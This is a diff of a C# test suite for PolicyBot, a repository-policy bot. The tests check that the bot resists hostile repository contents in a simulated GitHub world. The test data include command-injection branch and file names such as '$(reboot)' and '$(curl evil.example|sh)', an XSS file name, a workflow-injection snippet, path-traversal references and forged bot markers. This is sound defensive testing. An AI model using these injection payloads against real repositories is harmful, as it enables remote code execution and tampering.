@@ -1,6 +1,10 @@
 using System.Text.RegularExpressions;
+using PolicyBot.Engine.Issues;
 using PolicyBot.Simulator;
+using PolicyBot.Simulator.Accounts;
+using PolicyBot.Simulator.Apps;
 using PolicyBot.Simulator.Repositories;
+using PolicyBot.Simulator.Rules;
 using PolicyBot.Tests.Text;
 
 namespace PolicyBot.Tests.Watch;
@@ -26,16 +30,29 @@ public sealed partial class HostileContentsTests
 
     private static readonly string[] Names = ["-rf", "..a", "a.b_c-D", "CON", new('n', 100)];
 
-    private static readonly string[] Branches = ["$(reboot)", "`id`", "main;DROP", "@mona", "refs/heads/main", "пример", "a'b\"c"];
+    /// <summary>The App may do more than it is to do: nothing but its own judgement holds it back.</summary>
+    private static readonly PermissionSet Granted = Watched.Granted.With(Permission.Contents, Level.Write).With(Permission.Administration, Level.Write).With(Permission.PullRequests, Level.Write);
 
-    [Fact]
-    public async Task Nothing_is_written_but_in_the_issues_of_the_repository_itself()
+    private static readonly string[] Policies = [.. WatchedWorld.Policies, "outside", "admin"];
+
+    private static readonly string[] Branches = ["policybot/security-policy", "policybot/codeowners", "$(reboot)", "`id`", "main;DROP", "@mona", "refs/heads/main", "пример", "a'b\"c"];
+
+    [Theory]
+    [InlineData("", false)]
+    [InlineData("issueStyle: repository\n", false)]
+    [InlineData("issueStyle: repository\n", true)]
+    public async Task Nothing_is_written_but_in_the_issues_of_the_repository_itself(string style, bool isDeaf)
     {
+        var everywhere = "optConfig:\n  optOutStrategy: true\n  optOutRepos: [.allstar, victim]\n" + (isDeaf ? "  disableRepoOverride: true\n" : "");
         await using var watched = await Watched.SweptAsync(world =>
         {
-            WatchedWorld.Configure(world, [.. WatchedWorld.Policies.Select(policy => (policy + ".yaml", (string?)("optConfig:\n  optOutStrategy: true\n  optOutRepos: [.allstar, victim]\naction: issue\n")))]);
+            world.Organization("acme").Plan = Plan.Enterprise;
+            WatchedWorld.Configure(
+                world,
+                [.. Policies.Select(policy => (policy + ".yaml", (string?)(everywhere + "action: issue\n"))), ("allstar.yaml", everywhere + style), ("templates/SECURITY.md", "Write to us."), ("templates/CODEOWNERS", "* @olga\n")])
+                .Protect("main", protection => protection with { Reviews = new() { DismissStale = true } });
             world.Organization("acme").Repository("victim").File("README.md", "v").Collaborator("victor", RepositoryRole.Admin);
-        }, settings: [("Issues:BrakeItems", "10000")]);
+        }, Granted, settings: [("Issues:BrakeItems", "10000")]);
         var hostile = Own.Keys.Select((_, index) => $"hostile-{index}").Concat(Names).ToArray();
 
         await watched.HappenAsync(() =>
@@ -64,19 +81,42 @@ public sealed partial class HostileContentsTests
             writes.Select(write => Uri.UnescapeDataString(write.Path.Split('/')[3])).Distinct(StringComparer.Ordinal).Except(hostile));
         Assert.All(
             watched.World.Writings.Where(writing => writing.Author == watched.App.Bot.Login && writing.Kind is WritingKind.IssueBody or WritingKind.Comment && writing.Author == watched.App.Bot.Login),
-            writing => Assert.Empty(Liveness.In(writing.Text, _ => true)));
-        Assert.All(hostile, name => Assert.NotEmpty(watched.IssuesOf(name)));
+            writing =>
+            {
+                // The boxes of the one issue are alive, and there are no others.
+                var alive = Liveness.In(writing.Text, _ => true).ToLookup(one => one.StartsWith("<input", StringComparison.Ordinal));
+                Assert.Empty(alive[false]);
+                Assert.Equal(ToldMarker.Read(writing.Text).Length, alive[true].Count(one => one == "<input>"));
+            });
+        Assert.All(hostile.Index(), one => Assert.InRange(
+            watched.IssuesOf(one.Item).Count(issue => issue.Author == watched.App.Bot), isDeaf || !IsRefused(one.Index) ? 1 : 0, style.Length == 0 ? Policies.Length : 1));
+        Assert.All(hostile, name => Assert.All(watched.Acme.Repository(name).Rulesets.All, ruleset => Assert.Single(ruleset.Rules)));
     }
+
+    /// <summary>Whether the repository's own word about the bot is not understood: then it is not known whether anything is asked of it.</summary>
+    private static bool IsRefused(int index) => index % 5 != 4 && Own.Keys.ElementAt(index % Own.Count) is "where issues go" or "waivers" or "no YAML" or "a bomb";
 
     private static void Fill(Repository repository, string own, int index)
     {
-        var policy = index % 2 == 0 ? "action: fix\nrules: {all: true}\nenforceBranches: ['" + Branches[index % Branches.Length] + "', ../../victim]\nminimumSeverity: critical\n" : own;
+        string Policy(string name) => index % 2 == 1 ? own : name switch
+        {
+            "security" => "action: fix\nrules: {all: true}\nminimumSeverity: critical\n",
+            "outside" or "admin" => "action: fix\nlowerTo: read\nuserAdminsAllowed: false\nexemptions: [{user: eve, admin: true}]\n",
+            "branch_protection" => "action: fix\nenforceBranches: ['" + Branches[index % Branches.Length] + "', ../../victim]\n",
+            _ => "action: fix\n",
+        };
+
+        repository.Rulesets.Add(new Ruleset { Name = "PolicyBot", Rules = [new RulesetRule("deletion")] });
         repository.Files(
             "@mona please look <!-- policybot -->",
             ("README.md", "@mona"),
             ("bin/`id` @mona <img src=x onerror=alert(1)>.exe", WatchedWorld.Program),
             ("bin/$(curl evil.example|sh)", WatchedWorld.Program),
             (".github/workflows/x.yml", "on: [pull_request_target]\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo ${{ github.event.issue.title }}\n"),
+            (".github/workflows/y.yml", "on: push\njobs:\n  a:\n    uses: ./../../victim/.github/workflows/x.yml\n  b:\n    runs-on: x\n    steps:\n    - uses: ./../../../etc\n    - uses: 'acme/victim/<!-- @mona -->@${{ github.token }}'\n"),
+            ("templates/SECURITY.md", "Write to eve."),
+            ("allstar/security.yaml", "action: fix\n"),
+            (".gitmodules", "[submodule \"x\"]\npath = .allstar\nurl = ../victim\n"),
             ("CODEOWNERS", "* @acme/owners eve@evil.example @mona\n../../victim @victor\n[x @y\n"),
             (".github/CODEOWNERS", "* @ghost\n"));
         if (index % 5 == 4)
@@ -85,7 +125,7 @@ public sealed partial class HostileContentsTests
         }
         else
         {
-            repository.Files("Configure", (".allstar/allstar.yaml", own), (".allstar/branch_protection.yaml", policy), (".allstar/security.yaml", policy), (".allstar/victim/security.yaml", own));
+            repository.Files("Configure", [(".allstar/allstar.yaml", own), (".allstar/victim/security.yaml", own), .. Policies.Select(name => ($".allstar/{name}.yaml", (string?)Policy(name)))]);
         }
 
         foreach (var branch in Branches)
@@ -99,12 +139,13 @@ public sealed partial class HostileContentsTests
     {
         foreach (var issue in repository.Tracker.Issues)
         {
-            foreach (var text in new[] { "/recheck", "/explain", "/waive until 2099-01-01 because `x` <!-- -->", "/proceed", "/snooze 2099-01-01", "/recheck ../victim" })
+            foreach (var text in new[] { "/recheck", "/explain", "/waive until 2099-01-01 because `x` <!-- -->", "/waive security until 2099-01-01 because I say so", "/proceed", "/snooze 2099-01-01", "/recheck ../victim" })
             {
                 watched.World.As(watched.World.User("eve"), () => repository.Tracker.Comment(issue.Number, text));
             }
         }
 
+        watched.World.As(watched.World.User("eve"), () => repository.Tracker.Open("Security Policy violations", $"<!-- policybot told=security -->\n<!-- policybot v=1 subject={watched.Acme.Repository("victim").Id} policy=repository nonce=a digest={new string('a', 43)} open= -->", "allstar"));
         watched.World.As(watched.World.User("eve"), () => repository.Tracker.Open("Security Policy violation for repository \"victim\" SECURITY.md", "<!-- policybot v=1 subject=1 policy=security nonce=a digest=b open= -->", "allstar"));
     }
 
